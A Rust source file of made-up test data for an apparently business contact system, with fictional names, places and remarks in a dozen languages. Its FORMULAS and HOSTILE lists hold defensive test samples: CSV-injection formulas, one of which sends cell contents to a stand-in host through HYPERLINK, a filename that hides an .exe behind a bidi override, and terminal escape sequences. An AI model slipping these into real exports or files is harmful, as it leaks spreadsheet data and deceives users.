//! Names and places, put together at random: none is meant to be anybody's. Usually those of one country, as in an
//! ordinary company; with the fault `hostile_text` those of a dozen languages, and text that does harm where it is
//! taken at its word.

/// A language with its country.
#[derive(Debug)]
pub struct Culture {
    /// Country, in English.
    pub country: &'static str,
    /// Locale of its users (`LocaleSidKey`).
    pub locale: &'static str,
    /// Time zone of its users (`TimeZoneSidKey`).
    pub zone: &'static str,
    /// Language of its users (`LanguageLocaleKey`).
    pub language: &'static str,
    /// Country code for telephones.
    pub dial: &'static str,
    /// Shape of a postal code: `#` stands for a digit.
    pub postal: &'static str,
    /// Towns, with latitude and longitude.
    pub towns: &'static [(&'static str, f64, f64)],
    /// Streets.
    pub streets: &'static [&'static str],
    /// First names.
    pub first: &'static [&'static str],
    /// Last names.
    pub last: &'static [&'static str],
    /// Companies: `*` stands for one of [`Culture::brands`].
    pub companies: &'static [&'static str],
    /// What a company may be called.
    pub brands: &'static [&'static str],
    /// A remark in that language.
    pub remark: &'static str,
}

/// That of the company: all its customers are there.
#[rustfmt::skip] // as the others
pub const HOME: Culture = Culture {
    country: "United States", locale: "en_US", zone: "America/Chicago", language: "en_US", dial: "+1", postal: "#####",
    towns: &[
        ("Madison", 43.073, -89.401), ("Duluth", 46.786, -92.101), ("Eau Claire", 44.811, -91.498),
        ("Rochester", 44.022, -92.463), ("Dubuque", 42.501, -90.664), ("Green Bay", 44.519, -88.02),
    ],
    streets: &["Inventors Row", "Lakeshore Drive", "Old Mill Road", "Maple Street", "Harbor Lane", "County Road"],
    first: &[
        "Emily", "James", "Olivia", "Marcus", "Hannah", "Daniel", "Grace", "Victor", "Sophie", "Aaron", "Priya", "Luis",
        "Karen", "Trevor", "Naomi", "Owen",
    ],
    last: &[
        "Anderson", "Brooks", "Castillo", "Dawson", "Ellison", "Fletcher", "Garrett", "Hoffman", "Ingram", "Jensen",
        "Keller", "Larson", "Mitchell", "Novak", "Olson", "Peterson", "Reyes", "Sullivan", "Turner", "Whitfield",
    ],
    companies: &["* Property Management", "* Foods Inc.", "* School District", "* Manufacturing LLC", "* Hotels", "* Dental Group"],
    brands: &[
        "Lakeview", "Birchwood", "Northfield", "Prairie", "Riverbend", "Copper Kettle", "Evergreen", "Stonebridge",
        "Maple Grove", "Summit",
    ],
    remark: "Meter is in the basement; please call before the visit.",
};

/// Where the towns of [`HOME`] are: state, the beginning of their postal codes, telephone area.
pub const HOME_TOWNS: &[(&str, &str, &str, &str)] = &[
    ("Madison", "WI", "537##", "608"),
    ("Duluth", "MN", "558##", "218"),
    ("Eau Claire", "WI", "547##", "715"),
    ("Rochester", "MN", "559##", "507"),
    ("Dubuque", "IA", "520##", "563"),
    ("Green Bay", "WI", "543##", "920"),
];

/// What the company notes of a customer's past.
pub const HOME_PASTS: &[&str] = &[
    "Customer since 2014; came with the purchase of a competitor.",
    "Changed from yearly to monthly billing in 2022.",
    "Was with another supplier until 2019.",
    "Two sites were merged into this account in 2021.",
    "Contract renewed twice, last in the spring.",
];

/// Those of a dozen languages.
#[rustfmt::skip] // a language a block
pub const CULTURES: &[Culture] = &[
    Culture {
        country: "Germany", locale: "de_DE", zone: "Europe/Berlin", language: "de", dial: "+49", postal: "#####",
        towns: &[("Köln", 50.938, 6.96), ("Münster", 51.962, 7.626), ("Görlitz", 51.153, 14.988), ("Lübeck", 53.866, 10.686)],
        streets: &["Am Büchsenmacher", "Große Gasse", "Straße der Erfindungen", "Mühlenweg"],
        first: &["Jürgen", "Käthe", "Björn", "Annegret", "Sören", "Gönül", "Uwe", "Änne", "Malte", "Friederike"],
        last: &["Großmann", "Müller-Lüdenscheidt", "Weißenfels", "Schröder", "Böhm", "Öztürk", "Kühnast", "Thieß", "von der Au", "Jäger"],
        companies: &["* Haustechnik GmbH", "* Wärme AG", "Stadtwerke * GmbH & Co. KG"],
        brands: &["Nordlicht", "Grünkern", "Kachelofen", "Übermorgen", "Sonnenhof", "Lötstelle"],
        remark: "Rückruf erbeten – der Zähler im Keller ist nicht zugänglich.",
    },
    Culture {
        country: "Poland", locale: "pl_PL", zone: "Europe/Warsaw", language: "en_US", dial: "+48", postal: "##-###",
        towns: &[("Łódź", 51.759, 19.456), ("Gdańsk", 54.352, 18.647), ("Rzeszów", 50.041, 21.999), ("Świdnica", 50.845, 16.489)],
        streets: &["ul. Źródlana", "ul. Święta", "al. Wynalazców", "ul. Żółta"],
        first: &["Łukasz", "Małgorzata", "Zbigniew", "Świętosława", "Grażyna", "Mieczysław", "Bożena", "Żaneta", "Wojciech", "Jagna"],
        last: &["Brzęczyszczykiewicz", "Wiśniewska", "Dąbrowski", "Żółkiewska", "Śliwa", "Łęcki", "Gżegżółka", "Ćwikła", "Kościelny", "Jabłonowska"],
        companies: &["* Sp. z o.o.", "Zakład Instalacyjny * S.A.", "* i Synowie"],
        brands: &["Ciepło", "Wiatrak", "Źródło", "Błysk", "Żar"],
        remark: "Proszę dzwonić po południu; brama otwiera się od wewnątrz.",
    },
    Culture {
        country: "Russia", locale: "ru_RU", zone: "Europe/Moscow", language: "ru", dial: "+7", postal: "######",
        towns: &[("Тверь", 56.859, 35.9), ("Калуга", 54.514, 36.261), ("Йошкар-Ола", 56.634, 47.9)],
        streets: &["ул. Изобретателей", "Набережная ул.", "пер. Тихий"],
        first: &["Ярослав", "Фёкла", "Тимофей", "Агафья", "Юлия", "Всеволод", "Зинаида", "Пётр", "Ефросинья"],
        last: &["Щукин", "Воробьёва", "Ежов", "Ключников", "Мышкина", "Чащин", "Яблокова", "Шапошников", "Цветаев-Лугов"],
        companies: &["ООО «*»", "ЗАО «* Сервис»"],
        brands: &["Северный Ветер", "Тёплый Дом", "Искра", "Ёлка"],
        remark: "Счётчик в подвале, ключ у соседей.",
    },
    Culture {
        country: "Greece", locale: "el_GR", zone: "Europe/Athens", language: "en_US", dial: "+30", postal: "### ##",
        towns: &[("Θεσσαλονίκη", 40.64, 22.944), ("Ηράκλειο", 35.339, 25.144), ("Ιωάννινα", 39.665, 20.853)],
        streets: &["Οδός Εφευρετών", "Λεωφόρος Ηλίου", "Μικρή Πλατεία"],
        first: &["Ευθυμία", "Σπυρίδων", "Χαρίκλεια", "Αχιλλέας", "Ευανθία", "Ξενοφών", "Ουρανία", "Ψυχή"],
        last: &["Παπαχριστοδούλου", "Ξυλούρης", "Ωραιόπουλος", "Ψαράς", "Γαρυφαλλάκη", "Θαλασσινός", "Χατζηφωτίου"],
        companies: &["* Ενέργεια Α.Ε.", "Αφοί * Ο.Ε."],
        brands: &["Ήλιος", "Βοριάς", "Κύμα", "Ζέστη"],
        remark: "Το κλειδί είναι στον θυρωρό. Παρακαλώ τηλεφωνήστε πρώτα.",
    },
    Culture {
        country: "Japan", locale: "ja_JP", zone: "Asia/Tokyo", language: "ja", dial: "+81", postal: "###-####",
        towns: &[("札幌市", 43.062, 141.354), ("金沢市", 36.561, 136.656), ("那覇市", 26.212, 127.679)],
        streets: &["発明通り1丁目", "青葉台2-3", "港町5番地"],
        first: &["さくら", "健太", "美咲", "翔", "陽菜", "大輔", "かおり", "蓮", "ゆうき"],
        last: &["青木", "小鳥遊", "五十嵐", "髙橋", "渡邊", "鈴木", "東海林", "四月一日", "ｱｵｷ"],
        companies: &["株式会社*設備", "*エネルギー株式会社", "有限会社*商店"],
        brands: &["青空", "北風", "ひだまり", "みどり"],
        remark: "メーターは地下室にあります。訪問前にお電話ください。",
    },
    Culture {
        country: "South Korea", locale: "ko_KR", zone: "Asia/Seoul", language: "ko", dial: "+82", postal: "#####",
        towns: &[("전주시", 35.824, 127.148), ("강릉시", 37.752, 128.876), ("제주시", 33.5, 126.531)],
        streets: &["발명로 12", "햇빛길 7", "작은골목 3"],
        first: &["서연", "민준", "하윤", "도현", "지우", "예은", "준서", "은별"],
        last: &["김", "박", "최", "정", "남궁", "황보", "제갈", "선우"],
        companies: &["주식회사 *", "* 설비(주)"],
        brands: &["한빛", "따뜻한집", "북풍", "새싹"],
        remark: "지하실 열쇠는 관리사무소에 있습니다.",
    },
    Culture {
        country: "Thailand", locale: "th_TH", zone: "Asia/Bangkok", language: "th", dial: "+66", postal: "#####",
        towns: &[("เชียงใหม่", 18.788, 98.985), ("ขอนแก่น", 16.432, 102.836), ("ภูเก็ต", 7.89, 98.398)],
        streets: &["ถนนนักประดิษฐ์", "ซอยสายลม 4", "ถนนริมน้ำ"],
        first: &["สมชาย", "น้ำฝน", "กิตติพงษ์", "พิมพ์ใจ", "วัชระ", "ดวงแก้ว", "ปกรณ์"],
        last: &["ใจดี", "ศรีสุวรรณ", "ทองน้ำค้าง", "แก้วกุลธร", "บุญเรืองรอง", "วงศ์ไพบูลย์"],
        companies: &["บริษัท * จำกัด", "หจก. * การช่าง"],
        brands: &["ลมหนาว", "แสงตะวัน", "บ้านอุ่น"],
        remark: "กุญแจอยู่ที่เพื่อนบ้าน โปรดโทรก่อนเข้ามา",
    },
    Culture {
        country: "Türkiye", locale: "tr_TR", zone: "Europe/Istanbul", language: "en_US", dial: "+90", postal: "#####",
        towns: &[("Iğdır", 39.92, 44.045), ("İzmir", 38.423, 27.143), ("Şanlıurfa", 37.159, 38.797)],
        streets: &["Buluş Sokağı", "Işık Caddesi", "Çınar Yokuşu"],
        first: &["Işıl", "İlker", "Gülşen", "Oğuz", "Çiğdem", "Ümit", "Şebnem", "Irmak"],
        last: &["Yıldırım", "İnanoğlu", "Çağlayan", "Özgür", "Şimşek", "Ağaoğlu", "Işıklı", "Ünsal"],
        companies: &["* Isı Sistemleri A.Ş.", "* Ltd. Şti."],
        brands: &["Güneş", "Rüzgâr", "Işıltı", "İklim"],
        remark: "Sayaç bodrumda; gelmeden önce lütfen arayınız.",
    },
    Culture {
        country: "Viet Nam", locale: "vi_VN", zone: "Asia/Ho_Chi_Minh", language: "en_US", dial: "+84", postal: "######",
        towns: &[("Đà Lạt", 11.94, 108.458), ("Huế", 16.464, 107.59), ("Cần Thơ", 10.045, 105.746)],
        streets: &["Đường Sáng Chế", "Ngõ Gió Mới", "Phố Ánh Dương"],
        first: &["Thị Hương", "Văn Đức", "Ngọc Ánh", "Quốc Bảo", "Thuỳ Dương", "Hữu Phước"],
        last: &["Nguyễn", "Trần", "Lê", "Phạm", "Đặng", "Vũ", "Đỗ", "Huỳnh"],
        companies: &["Công ty TNHH *", "Công ty Cổ phần *"],
        brands: &["Gió Mới", "Ánh Dương", "Nhà Ấm"],
        remark: "Đồng hồ ở tầng hầm, xin gọi trước khi đến.",
    },
    Culture {
        country: "Brazil", locale: "pt_BR", zone: "America/Sao_Paulo", language: "pt_BR", dial: "+55", postal: "#####-###",
        towns: &[("São Luís", -2.53, -44.303), ("Florianópolis", -27.595, -48.548), ("Goiânia", -16.687, -49.265)],
        streets: &["Rua das Invenções", "Avenida do Sol Poente", "Travessa da Maré"],
        first: &["João", "Conceição", "Antônio", "Inês", "Sebastião", "Luíza", "Caetana", "Estêvão"],
        last: &["Guimarães", "da Conceição", "Magalhães", "Brandão", "Araújo", "Simões", "d'Ávila", "Assunção"],
        companies: &["* Ltda.", "* Energia S/A", "Irmãos * ME"],
        brands: &["Vento Sul", "Sabiá", "Maré Alta", "Ipê"],
        remark: "O medidor fica no porão; ligue antes, por favor.",
    },
    Culture {
        country: "Egypt", locale: "ar_EG", zone: "Africa/Cairo", language: "en_US", dial: "+20", postal: "#####",
        towns: &[("الإسكندرية", 31.2, 29.919), ("أسوان", 24.089, 32.9)],
        streets: &["شارع المخترعين", "شارع النسيم"],
        first: &["ليلى", "يوسف", "نور", "سلمى", "كريم"],
        last: &["الحداد", "النجار", "عبد الرؤوف", "الشمسي", "البحري"],
        companies: &["شركة * للطاقة", "مؤسسة *"],
        brands: &["نسيم الشمال", "شروق", "دفء"],
        remark: "العداد في القبو، يرجى الاتصال قبل الزيارة.",
    },
    Culture {
        country: "Ireland", locale: "en_IE", zone: "Europe/Dublin", language: "en_US", dial: "+353", postal: "D## X###",
        towns: &[("Dún Laoghaire", 53.294, -6.134), ("Ennis", 52.843, -8.986), ("Letterkenny", 54.95, -7.734)],
        streets: &["Inventors' Row", "Harbour Lane", "Old Mill Road"],
        first: &["Siobhán", "Niamh", "Tadhg", "Aoife", "Cormac", "Orla", "Fiachra", "Gráinne"],
        last: &["O'Dwyer", "Mac an Bhaird", "Fitzgibbon", "Ní Dhomhnaill", "Smith-Jones", "O'Shea", "Null", "Rafferty"],
        companies: &["* Heating Ltd", "* & Daughters", "* Renewables plc"],
        brands: &["Northwind", "Copper Kettle", "Warm Hearth", "Second Sun"],
        remark: "Meter is in the cellar; please phone \"before 10\", not after.",
    },
];

/// Job titles in the company's own language.
pub const HOME_TITLES: &[&str] = &[
    "Facility Manager",
    "CFO",
    "Purchasing Agent",
    "Technical Director",
    "Office Manager",
    "Maintenance Supervisor",
    "Owner",
];

/// Departments in the company's own language.
pub const HOME_DEPARTMENTS: &[&str] = &["Facilities", "Purchasing", "Finance", "Operations", "Engineering"];

/// Subjects of tasks, events and cases in the company's own language.
pub const HOME_SUBJECTS: &[&str] = &[
    "Compressor hums at night",
    "Call back about the quote",
    "Overdue invoice",
    "Send survey report",
    "Thermostat shows E-07",
    "Pressure drops overnight",
    "Does not start after a power cut",
    "Annual service due",
    "Check a leak",
    "Quote for second circuit",
];

/// Sentences of longer texts in the company's own language.
pub const HOME_SENTENCES: &[&str] = &[
    "The flow temperature stays 4 K below the set point.",
    "Filter was replaced, pump runs quieter now.",
    "Customer prefers a visit before 10:00.",
    "A second visit is needed because the valve was missing.",
    "It does not start below freezing.",
    "Ask for the key at the bakery.",
    "Photo of the type plate is in the files.",
];

/// Job titles.
pub const TITLES: &[&str] = &[
    "Facility Manager",
    "CFO",
    "Einkauf",
    "Główna księgowa",
    "技術部長",
    "Technical Director",
    "Engenheira de campo",
    "Müdür",
    "Giám đốc",
    "Caretaker",
    "Owner",
];

/// Departments.
pub const DEPARTMENTS: &[&str] =
    &["Facilities", "Purchasing", "Finance", "営業部", "R&D", "Operations", "Buchhaltung"];

/// What a spreadsheet would take for a formula (OWASP, "CSV Injection"): an export must not let it.
pub const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Open invoice\")",
    "+1",
    "@SUM(A1:A9)",
    "-2+3",
    "=1+1",
    "\t=cmd",
];

/// Text that a terminal must not take at its word: a bidi override, an escape sequence, a zero-width space
/// and joined emoji.
pub const HOSTILE: &[&str] = &[
    "invoice_\u{202e}gpj.exe",
    "bell\u{7} and \u{1b}[31mred\u{1b}[0m",
    "zero\u{200b}width",
    "👩‍🔧 on site 🇯🇵 ✔️",
];

/// Subjects of tasks, events and cases.
pub const SUBJECTS: &[&str] = &[
    "Compressor hums at night",
    "Ruf zurück wegen Angebot",
    "Zaległa faktura",
    "見積書の件",
    "Send survey report",
    "Thermostat zeigt E-07",
    "Pressure drops overnight",
    "Não liga depois da queda de energia",
    "Annual service due",
    "누수 점검 요청",
    "Quote for second circuit",
];

/// Sentences of longer texts.
pub const SENTENCES: &[&str] = &[
    "The flow temperature stays 4 K below the set point.",
    "Filter was replaced, pump runs quieter now.",
    "Customer prefers a visit before 10:00.",
    "Zweiter Termin nötig, weil das Ventil fehlt.",
    "外気温が氷点下のとき起動しない。",
    "Ciśnienie spada w nocy o 0,3 bara.",
    "Ask for the key at the bakery.",
    "Photo of the type plate is in the files.",
    "Güç kesintisinden sonra yeniden başlatıldı.",
];
